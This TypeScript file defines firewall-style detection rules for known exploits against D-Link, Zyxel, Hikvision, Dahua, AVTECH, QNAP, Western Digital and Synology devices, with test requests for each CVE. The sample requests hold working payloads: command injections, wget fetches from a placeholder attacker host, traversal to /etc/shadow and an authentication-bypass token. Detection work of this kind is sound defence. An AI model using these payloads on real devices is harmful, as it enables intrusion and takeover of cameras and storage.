import { formPost, get, jsonPost, send } from '../../../request-samples.ts';
import {
  allOf,
  anyOf,
  bodyHas,
  bodyMatches,
  decodedQueryMatches,
  fieldHas,
  fieldHasShell,
  fieldIs,
  fieldMatches,
  hasField,
  hasHeader,
  headerHas,
  pathHas,
  queryHas,
} from '../conditions.ts';
import { detection } from '../targeted-rule.ts';

/** Cameras, recorders and storage devices. */
export const cameraAndStorageRules = [
  detection({
    ref: 'managed-d-link-nas',
    description:
      'D-Link NAS: run commands with a hidden account or a user name (CVE-2024-3272, CVE-2024-3273, CVE-2024-10914)',
    categories: [
      'd-link',
      'command-injection',
      'backdoor',
      'cve-2024-3272',
      'cve-2024-3273',
      'cve-2024-10914',
    ],
    expression: anyOf(
      allOf(
        pathHas('/cgi-bin/nas_sharing.cgi'),
        anyOf(fieldIs('user', 'messagebus'), hasField('system')),
      ),
      allOf(pathHas('/cgi-bin/account_mgr.cgi'), fieldMatches('name', "[;`'|&$]")),
    ),
    matching: [
      get('/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ='),
      get('/cgi-bin/account_mgr.cgi?cmd=cgi_user_add&name=%27;id;%27'),
    ],
    other: [
      get('/cgi-bin/nas_sharing.cgi?user=ada&cmd=1'),
      get('/cgi-bin/account_mgr.cgi?cmd=cgi_user_add&name=ada'),
    ],
  }),
  detection({
    ref: 'managed-zyxel-nas',
    description:
      'Zyxel NAS and modems: run commands in the user name or an address (CVE-2020-9054, CVE-2017-18368, CVE-2024-40891)',
    categories: ['zyxel', 'command-injection', 'cve-2020-9054', 'cve-2017-18368', 'cve-2024-40891'],
    expression: anyOf(
      allOf(
        pathHas('/adv,/cgi-bin/weblogin.cgi', '/cgi-bin/weblogin.cgi'),
        fieldMatches('username', "[';`|]"),
      ),
      allOf(pathHas('/cgi-bin/viewlog.asp'), fieldHasShell('remote_host')),
    ),
    matching: [
      get('/adv,/cgi-bin/weblogin.cgi?username=admin%27%3Bid+%23&password=x'),
      formPost('/cgi-bin/ViewLog.asp', {
        remote_submit_Flag: '1',
        remote_host: ';cd /tmp;wget http://attacker.test/x;',
        remoteSubmit: 'Save',
      }),
    ],
    other: [
      get('/adv,/cgi-bin/weblogin.cgi?username=admin&password=x'),
      formPost('/cgi-bin/ViewLog.asp', { remote_host: '192.0.2.7' }),
    ],
  }),
  detection({
    ref: 'managed-hikvision-language',
    description: 'Hikvision: runs commands in the language of the camera (CVE-2021-36260)',
    categories: ['hikvision', 'command-injection', 'cve-2021-36260'],
    expression: allOf(pathHas('/sdk/weblanguage'), bodyMatches('\\$\\(|`|;')),
    matching: [
      send(
        'PUT',
        '/SDK/webLanguage',
        'application/x-www-form-urlencoded',
        '<?xml version="1.0"?><language>$(id>webLib/x)</language>',
      ),
      send('PUT', '/SDK/webLanguage', 'application/xml', '<language>`id`</language>'),
    ],
    other: [
      send(
        'PUT',
        '/SDK/webLanguage',
        'application/xml',
        '<?xml version="1.0"?><language>de</language>',
      ),
      get('/SDK/webLanguage'),
    ],
  }),
  detection({
    ref: 'managed-hikvision-authentication',
    description: 'Hikvision: poses as the administrator with a fixed argument (CVE-2017-7921)',
    categories: ['hikvision', 'authentication-bypass', 'backdoor', 'cve-2017-7921'],
    expression: allOf(
      queryHas('auth=ywrtaw46'),
      pathHas('/security/', '/system/', '/onvif-http/', '/isapi/', '/streaming/'),
    ),
    matching: [
      get('/System/configurationFile?auth=YWRtaW46MTEK'),
      get('/onvif-http/snapshot?auth=YWRtaW46MTEK'),
    ],
    other: [get('/System/status?auth=x'), get('/login?auth=YWRtaW46MTEK')],
  }),
  detection({
    ref: 'managed-dahua-login',
    description: 'Dahua: logs in as a local device (CVE-2021-33044, CVE-2021-33045)',
    categories: ['dahua', 'authentication-bypass', 'cve-2021-33044', 'cve-2021-33045'],
    expression: allOf(
      pathHas('/rpc2_login', '/rpc2'),
      bodyHas('netkeyboard', '"loopback"', '"local"'),
      bodyHas('"clienttype"', 'logintype'),
    ),
    matching: [
      jsonPost('/RPC2_Login', {
        method: 'global.login',
        params: {
          userName: 'admin',
          password: 'x',
          clientType: 'NetKeyboard',
          loginType: 'Direct',
          authorityType: 'Default',
        },
      }),
      jsonPost('/RPC2_Login', {
        params: { clientType: 'Local', ipAddr: '127.0.0.1', loginType: 'Loopback' },
      }),
    ],
    other: [
      jsonPost('/RPC2_Login', {
        method: 'global.login',
        params: { userName: 'ada', password: '', clientType: 'Web3.0', loginType: 'Direct' },
      }),
      jsonPost('/RPC2', { method: 'magicBox.getDeviceType' }),
    ],
  }),
  detection({
    ref: 'managed-avtech-camera',
    description:
      'AVTECH, TBK: run commands with scripts of the camera (CVE-2024-3721, CVE-2024-7029)',
    categories: ['avtech', 'tbk', 'command-injection', 'cve-2024-3721', 'cve-2024-7029'],
    expression: anyOf(
      allOf(
        pathHas('/cgi-bin/supervisor/', '/cgi-bin/nobody/'),
        decodedQueryMatches('\\$\\(|`|;[a-z/ ]|\\|'),
      ),
      allOf(pathHas('/device.rsp'), queryHas('s_o_s_t_r_e_a_m_max')),
    ),
    matching: [
      get('/cgi-bin/supervisor/Factory.cgi?action=Set&brightness=1;id;'),
      formPost('/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_M_MAX___&mdb=sos&mdc=cd%20/tmp', {
        x: '1',
      }),
      get(
        '/cgi-bin/nobody/Search.cgi?action=cgi_query&ip=a&queryb64str=&username=admin%20;XmlAp%20r',
      ),
    ],
    other: [
      get('/cgi-bin/supervisor/Factory.cgi?action=Set&brightness=50'),
      get('/device.rsp?opt=sys&cmd=status'),
    ],
  }),
  detection({
    ref: 'managed-qnap-photo-station',
    description:
      'QNAP: reads files or runs commands with Photo Station and the log-in (CVE-2017-6361, CVE-2019-7192, CVE-2019-7195)',
    categories: [
      'qnap',
      'directory-traversal',
      'command-injection',
      'cve-2017-6361',
      'cve-2019-7192',
      'cve-2019-7195',
    ],
    expression: anyOf(
      allOf(
        pathHas('/photo/p/api/'),
        anyOf(fieldHas('filename', '..'), fieldHas('f', '..'), bodyHas('../')),
      ),
      allOf(
        pathHas('/cgi-bin/'),
        pathHas('wfm2login.cgi', 'authlogin.cgi', 'qsyncsrv.cgi', 'userconfig.cgi'),
        anyOf(headerHas('x-forwarded-for', '$(', '`', ';'), fieldHasShell('reboot_notice_msg')),
      ),
    ),
    matching: [
      formPost('/photo/p/api/video.php', {
        album: 'x',
        a: 'caption',
        ac: '1',
        f: 'UMGObj',
        filename: './../../../../../etc/shadow',
      }),
      get('/cgi-bin/filemanager/wfm2Login.cgi', { 'x-forwarded-for': '$(wget attacker.test)' }),
    ],
    other: [
      formPost('/photo/p/api/album.php', { a: 'setSlideshow', f: 'qsamplealbum' }),
      get('/cgi-bin/authLogin.cgi', { 'x-forwarded-for': '192.0.2.7' }),
    ],
  }),
  detection({
    ref: 'managed-western-digital-command',
    description:
      'Western Digital My Cloud, My Book Live: run commands or skip authentication (CVE-2018-17153, CVE-2018-18472)',
    categories: [
      'western-digital',
      'command-injection',
      'authentication-bypass',
      'cve-2018-17153',
      'cve-2018-18472',
    ],
    expression: anyOf(
      allOf(
        pathHas('/api/1.0/rest/language_configuration', '/api/2.0/rest/language_configuration'),
        fieldHasShell('language'),
      ),
      allOf(pathHas('/cgi-bin/network_mgr.cgi'), fieldIs('cmd', 'cgi_get_ipv6')),
    ),
    matching: [
      send(
        'PUT',
        '/api/1.0/rest/language_configuration',
        'application/x-www-form-urlencoded',
        'owner=root&language=`id`',
      ),
      formPost('/cgi-bin/network_mgr.cgi', { cmd: 'cgi_get_ipv6', flag: '1' }),
    ],
    other: [
      send(
        'PUT',
        '/api/1.0/rest/language_configuration',
        'application/x-www-form-urlencoded',
        'language=en_US',
      ),
      formPost('/cgi-bin/network_mgr.cgi', { cmd: 'status' }),
    ],
  }),
  detection({
    ref: 'managed-synology-image-selector',
    description: 'Synology: writes files with the selector of images (CVE-2013-6955)',
    categories: ['synology', 'file-upload', 'command-injection', 'cve-2013-6955'],
    expression: allOf(
      pathHas('/webman/imageselector.cgi'),
      anyOf(
        hasHeader('x-tmp-file'),
        headerHas('x-type-name', 'sliceupload'),
        hasHeader('x-tmp_file'),
      ),
    ),
    matching: [
      send('POST', '/webman/imageSelector.cgi', 'text/plain', 'x', {
        'x-type-name': 'SLICEUPLOAD',
        'x-tmp-file': '/usr/syno/synoman/x.cgi',
      }),
      send('POST', '/webman/imageSelector.cgi', 'text/plain', 'x', { 'x-tmp-file': '/tmp/x' }),
    ],
    other: [get('/webman/imageSelector.cgi'), get('/webman/index.cgi', { 'x-tmp-file': '/tmp/x' })],
  }),
];
